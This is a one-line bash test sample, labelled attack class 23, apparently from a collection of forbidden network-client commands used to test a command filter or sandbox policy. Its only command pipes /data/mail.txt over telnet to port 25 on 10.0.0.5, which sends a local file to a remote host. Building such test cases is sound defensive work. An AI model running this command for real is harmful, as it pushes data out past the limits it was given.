#!/usr/bin/env bash
# attack-class: 23
# title: telnet to a remote port
# why: another forbidden network client

telnet 10.0.0.5 25 < /data/mail.txt
